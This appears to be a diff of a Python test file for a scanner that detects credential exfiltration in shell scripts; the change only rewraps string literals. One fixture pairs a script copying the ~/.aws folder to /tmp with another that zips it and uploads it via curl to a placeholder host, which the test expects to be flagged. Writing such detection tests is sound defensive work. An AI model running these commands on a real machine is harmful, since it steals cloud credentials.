@@ -32,13 +32,18 @@ def test_copies_named_like_stores_then_an_archive_in_the_working_folder_uploaded
 
 def test_a_copy_to_a_fixed_folder_zipped_and_put(tmp_path: Path) -> None:
     stager = '#!/bin/sh\nmkdir -p /tmp/carry\ncp -a "$HOME/.aws" /tmp/carry/.aws\n'
-    sender = "#!/bin/sh\nzip -qr /tmp/carry.zip /tmp/carry\ncurl -s -T /tmp/carry.zip https://drop.assets-sync.invalid/\n"
+    sender = (
+        "#!/bin/sh\nzip -qr /tmp/carry.zip /tmp/carry\ncurl -s -T /tmp/carry.zip https://drop.assets-sync.invalid/\n"
+    )
     files = {"scripts/a.sh": stager, "scripts/b.sh": sender}
     assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in scan_errors(tmp_path, files))
 
 
 def test_the_copies_archived_but_kept_on_the_machine_stay_quiet(tmp_path: Path) -> None:
-    keeper = '#!/usr/bin/env bash\nrun="$1"\ntar -czf "bundle-$run.tar.gz" bundle\nmv "bundle-$run.tar.gz" "$HOME/backups/"\n'
+    keeper = (
+        '#!/usr/bin/env bash\nrun="$1"\ntar -czf "bundle-$run.tar.gz" bundle\n'
+        'mv "bundle-$run.tar.gz" "$HOME/backups/"\n'
+    )
     files = {"scripts/stage.sh": STAGER, "scripts/keep.sh": keeper}
     assert scan_errors(tmp_path, files) == set()
 
